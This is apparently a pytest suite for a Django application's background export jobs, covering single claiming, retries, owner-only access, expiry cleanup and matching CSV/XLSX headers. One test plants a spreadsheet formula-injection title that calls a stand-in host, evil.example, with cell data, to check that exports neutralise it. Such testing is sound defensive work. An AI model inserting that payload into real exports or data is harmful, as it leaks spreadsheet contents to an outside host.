"""Exports above the threshold: background jobs claimed once, rerun after a failure, served only to their owner,
deleted when expired; the same columns as a direct download."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.core.files.storage import default_storage
from django.urls import reverse
from django.utils import timezone

from compliance.quota.exports import QUOTA
from core import export_jobs, exports
from core.models import ExportJob, export_path
from innovations.exports import INNOVATIONS
from innovations.models import State
from tests.agencies.factories import user_with_role
from tests.conftest import client_for
from tests.reports.exporting import csv_rows, file_rows, queued_job, small_register, start_url, today
from tests.snapshots import kept

pytestmark = pytest.mark.django_db


@pytest.fixture
@kept
def register(people, chart, make_innovation):
    return small_register(people, chart, make_innovation)


# --- background jobs -----------------------------------------------------------------------------------------------


@pytest.fixture
def queued(people, register, settings, django_capture_on_commit_callbacks):
    """A background export of every innovation the reviewer sees (the threshold lowered to 1 row)."""
    settings.EXPORT_DIRECT_MAX_ROWS = 1
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        response = client_for(people["reviewer"]).post(start_url("innovations", state="submitted"), {"format": "csv"})
    job = ExportJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("exports:detail", args=[job.token])
    assert len(callbacks) == 1  # the task, sent once the job row is committed
    return job


def test_a_large_export_becomes_a_job_with_the_pages_filters(people, queued, settings):
    settings.EXPORT_DIRECT_MAX_ROWS = 5000  # the direct download, to compare with
    direct = client_for(people["reviewer"]).post(start_url("innovations", state="submitted"), {"format": "csv"})

    assert (queued.owner, queued.kind, queued.format, queued.parameters) == (
        people["reviewer"],
        "innovations",
        "csv",
        {"state": ["submitted"]},
    )
    assert (queued.state, queued.rows_done, queued.rows_total, queued.filename) == (
        "queued",
        0,
        2,
        f"inovasi-{today():%Y%m%d}",
    )
    assert queued.expires_at - queued.created == datetime.timedelta(hours=24)

    job = export_jobs.export_run(job_id=queued.pk)

    assert (job.state, job.rows_done, job.rows_total, job.attempts, job.error) == ("done", 2, 2, 1, "")
    assert job.file.name == f"exports/{people['reviewer'].pk}/{job.token.hex}.csv"
    assert file_rows(job) == csv_rows(direct)
    assert job.expires_at - job.finished == datetime.timedelta(hours=24)


def test_a_job_runs_once_however_often_its_task_is_delivered(queued):
    first = export_jobs.export_run(job_id=queued.pk)
    second = export_jobs.export_run(job_id=queued.pk)

    assert (first.state, first.attempts) == ("done", 1)
    assert second is None
    queued.refresh_from_db()
    assert (queued.state, queued.attempts) == ("done", 1)


def test_a_job_that_failed_halfway_runs_again_and_rewrites_its_file(queued, monkeypatch):
    real_write = exports.write_file

    def crash_after_one_row(path, *, table, queryset, fmt, title, progress, every):
        path.write_text("id,year\n1,2025\n")
        raise OSError("disk full")

    monkeypatch.setattr(exports, "write_file", crash_after_one_row)
    failed = export_jobs.export_run(job_id=queued.pk)
    assert (failed.state, failed.error, failed.file.name) == ("failed", "Berkas tidak dapat ditulis. Coba lagi.", "")

    monkeypatch.setattr(exports, "write_file", real_write)
    export_jobs.export_retry(job=failed, by=failed.owner)
    done = export_jobs.export_run(job_id=queued.pk)

    assert (done.state, done.attempts, done.error) == ("done", 2, "")
    assert [row[4] for row in file_rows(done)] == ["Judul", "Posyandu Kelurahan", "Klinik Keliling"]


def test_a_job_whose_worker_vanished_is_claimed_again_and_its_half_file_replaced(queued):
    name = export_path(queued, "")
    default_storage.save(name, io.BytesIO(b"id,year\n1,"))
    ExportJob.objects.filter(pk=queued.pk).update(
        state="running", started=timezone.now() - datetime.timedelta(minutes=31), attempts=1, file=name
    )

    job = export_jobs.export_run(job_id=queued.pk)

    assert (job.state, job.attempts, job.file.name) == ("done", 2, name)
    assert [row[4] for row in file_rows(job)] == ["Judul", "Posyandu Kelurahan", "Klinik Keliling"]


def test_a_running_job_is_not_claimed_twice(queued):
    ExportJob.objects.filter(pk=queued.pk).update(state="running", started=timezone.now(), attempts=1)

    assert export_jobs.export_run(job_id=queued.pk) is None


def test_only_a_failed_job_can_be_retried_and_only_by_its_owner(people, queued):
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError) as not_failed:
        export_jobs.export_retry(job=queued, by=people["reviewer"])
    ExportJob.objects.filter(pk=queued.pk).update(state="failed")
    with pytest.raises(ValidationError) as not_owner:
        export_jobs.export_retry(job=queued, by=people["admin"])

    assert not_failed.value.messages == ["Unduhan ini tidak gagal: tidak ada yang perlu dijalankan lagi."]
    assert not_owner.value.messages == ["Hanya orang yang meminta unduhan ini yang dapat menjalankannya lagi."]


def test_an_export_whose_filters_no_longer_apply_fails_with_a_message(people, quota_status):
    job = export_jobs.export_start(
        owner=people["reviewer"], table=QUOTA, fmt="csv", parameters={"year": ["20x6"]}, estimate=10
    )

    job = export_jobs.export_run(job_id=job.pk)

    assert (job.state, job.error) == ("failed", "Tahun tidak dapat dibaca.")


def test_xlsx_job_writes_a_workbook(people, register):
    job = export_jobs.export_start(owner=people["head"], table=INNOVATIONS, fmt="xlsx", parameters={}, estimate=2)

    job = export_jobs.export_run(job_id=job.pk)

    rows = file_rows(job)
    assert [r[4] for r in rows] == ["Judul", "Posyandu Digital", "Klinik Keliling"]
    assert job.download_name == f"inovasi-{today():%Y%m%d}.xlsx"


@pytest.mark.parametrize("kind", ["innovations", "quota", "assessments", "agencies"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_table_has_the_same_header_from_the_page_button_and_from_a_job(people, kind, fmt):
    reviewer = client_for(people["reviewer"])

    direct = reviewer.post(start_url(kind), {"format": fmt})
    job = queued_job(reviewer, people["reviewer"], start_url(kind), fmt)

    if fmt == "csv":
        page_rows = csv_rows(direct)
    else:
        page_rows = [list(r) for r in openpyxl.load_workbook(io.BytesIO(direct.content)).worksheets[0].values]
    header_row = 1 if fmt == "xlsx" else 0  # below the XLSX's title row
    job_rows = file_rows(job)
    assert (page_rows[0][0], page_rows[header_row]) == (job_rows[0][0], job_rows[header_row])
    assert page_rows[header_row] == exports.TABLES[kind].headers


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_formula_title_arrives_as_text_from_the_list_page_and_from_a_job(people, chart, make_innovation, fmt):
    evil = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
    make_innovation(chart["dinkes"], people["staff"], State.ACCEPTED, title=evil)
    reviewer = client_for(people["reviewer"])

    page = reviewer.get(reverse("innovations:list"), {"export": fmt})
    job = queued_job(reviewer, people["reviewer"], start_url("innovations"), fmt)

    if fmt == "csv":
        assert csv_rows(page)[1][4] == file_rows(job)[1][4] == f"'{evil}"
    else:
        with default_storage.open(job.file.name, "rb") as handle:
            from_job = openpyxl.load_workbook(io.BytesIO(handle.read())).worksheets[0]["E3"]
        from_page = openpyxl.load_workbook(io.BytesIO(page.content)).worksheets[0]["E3"]
        assert [(c.data_type, c.value) for c in (from_page, from_job)] == [("s", evil), ("s", evil)]


# --- pages of a job: only its owner ----------------------------------------------------------------------------


@pytest.fixture
def done(queued):
    return export_jobs.export_run(job_id=queued.pk)


@pytest.mark.parametrize("view", ["detail", "status", "download"])
@pytest.mark.parametrize(
    ("who", "status"),
    [
        ("reviewer", 200),
        ("admin", 404),
        ("head", 404),
        ("staff", 404),
        ("evaluator", 404),
        ("outsider", 404),
        (None, 302),
    ],
)
def test_a_job_and_its_file_are_only_for_its_owner(people, done, view, who, status):
    response = client_for(people.get(who)).get(reverse(f"exports:{view}", args=[done.token]))

    assert response.status_code == status


def test_a_superuser_cannot_open_someone_elses_export(people, done):
    root = user_with_role("admin", region=people["reviewer"].role_assignments.get().region, username="root")
    root.is_superuser = True
    root.save()

    assert client_for(root).get(reverse("exports:download", args=[done.token])).status_code == 404


def test_download_serves_the_file_as_an_attachment(people, done):
    response = client_for(people["reviewer"]).get(reverse("exports:download", args=[done.token]))

    assert response["Content-Disposition"] == f'attachment; filename="inovasi-{today():%Y%m%d}.csv"'
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    assert [row[4] for row in csv.reader(io.StringIO(body))] == ["Judul", "Posyandu Kelurahan", "Klinik Keliling"]


def test_status_says_where_the_job_is(people, queued, done):
    reviewer = client_for(people["reviewer"])

    ready = reviewer.get(reverse("exports:status", args=[done.token])).json()
    ExportJob.objects.filter(pk=done.pk).update(state="running", rows_done=1, rows_total=2)
    running = reviewer.get(reverse("exports:status", args=[done.token])).json()

    assert ready == {
        "state": "done",
        "state_label": "Siap",
        "rows_done": 2,
        "rows_total": 2,
        "percent": 100,
        "finished": True,
        "download_url": reverse("exports:download", args=[done.token]),
    }
    assert running == {
        "state": "running",
        "state_label": "Sedang disiapkan",
        "rows_done": 1,
        "rows_total": 2,
        "percent": 50,
        "finished": False,
        "download_url": None,
    }


@pytest.mark.parametrize("state", ["queued", "running", "failed"])
def test_a_file_that_is_not_ready_is_not_served(people, done, state):
    ExportJob.objects.filter(pk=done.pk).update(state=state)

    assert client_for(people["reviewer"]).get(reverse("exports:download", args=[done.token])).status_code == 404


def test_an_expired_file_is_not_served_and_the_page_says_so(people, done):
    ExportJob.objects.filter(pk=done.pk).update(expires_at=timezone.now() - datetime.timedelta(minutes=1))
    reviewer = client_for(people["reviewer"])

    download = reviewer.get(reverse("exports:download", args=[done.token]))
    page = reviewer.get(reverse("exports:detail", args=[done.token]))

    assert download.status_code == 404
    assert "Berkas ini sudah dihapus" in page.content.decode()


def test_progress_page_refreshes_itself_without_javascript_until_the_job_ends(people, queued):
    reviewer = client_for(people["reviewer"])

    waiting = reviewer.get(reverse("exports:detail", args=[queued.token])).content.decode()
    export_jobs.export_run(job_id=queued.pk)
    ready = reviewer.get(reverse("exports:detail", args=[queued.token])).content.decode()

    assert '<noscript><meta http-equiv="refresh" content="5"></noscript>' in waiting
    assert "http-equiv" not in ready
    assert reverse("exports:download", args=[queued.token]) in ready


def test_retry_page_queues_a_failed_job_again(people, queued, django_capture_on_commit_callbacks):
    ExportJob.objects.filter(pk=queued.pk).update(state="failed", error="x")

    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        response = client_for(people["reviewer"]).post(reverse("exports:retry", args=[queued.token]))

    queued.refresh_from_db()
    assert (response.status_code, queued.state, queued.error, len(callbacks)) == (302, "queued", "", 1)


def test_retry_by_someone_else_is_404(people, queued):
    ExportJob.objects.filter(pk=queued.pk).update(state="failed")

    response = client_for(people["admin"]).post(reverse("exports:retry", args=[queued.token]))

    queued.refresh_from_db()
    assert (response.status_code, queued.state) == (404, "failed")


def _job(owner, **fields):
    now = timezone.now()
    values = {
        "owner": owner,
        "kind": "innovations",
        "format": "csv",
        "filename": "inovasi",
        "expires_at": now + datetime.timedelta(hours=1),
    }
    values.update(fields)
    return ExportJob.objects.create(**values)


def test_my_downloads_lists_only_my_jobs(people):
    mine = [_job(people["head"], kind="quota"), _job(people["head"])]
    _job(people["reviewer"])

    response = client_for(people["head"]).get(reverse("exports:list"))

    assert [job.pk for job, _table in response.context["jobs"]] == [mine[1].pk, mine[0].pk]


def test_my_downloads_query_count_does_not_grow(people, django_assert_num_queries):
    head = client_for(people["head"])
    _job(people["head"])
    head.get(reverse("exports:list"))  # the header's count of work waiting is gathered once, then cached
    with django_assert_num_queries(7):
        head.get(reverse("exports:list"))
    _job(people["head"], kind="quota")
    _job(people["head"], kind="agencies", state="done", file="exports/x.csv")
    with django_assert_num_queries(7):
        response = head.get(reverse("exports:list"))

    assert len(response.context["jobs"]) == 3


# --- clean-up ----------------------------------------------------------------------------------------------------


def test_expired_jobs_and_their_files_are_deleted_and_a_second_run_finds_nothing(people, done):
    fresh = _job(people["head"])
    ExportJob.objects.filter(pk=done.pk).update(expires_at=timezone.now() - datetime.timedelta(seconds=1))
    name = done.file.name
    assert default_storage.exists(name)

    first = export_jobs.exports_delete_expired()
    second = export_jobs.exports_delete_expired()

    assert (first, second) == (1, 0)
    assert not default_storage.exists(name)
    assert list(ExportJob.objects.values_list("pk", flat=True)) == [fresh.pk]


def test_cleanup_runs_every_day_from_the_beat_schedule(settings):
    entry = settings.CELERY_BEAT_SCHEDULE["exports-daily-cleanup"]

    assert entry["task"] == "reports.delete_expired_exports"
    assert (entry["schedule"].hour, entry["schedule"].minute) == ({2}, {30})
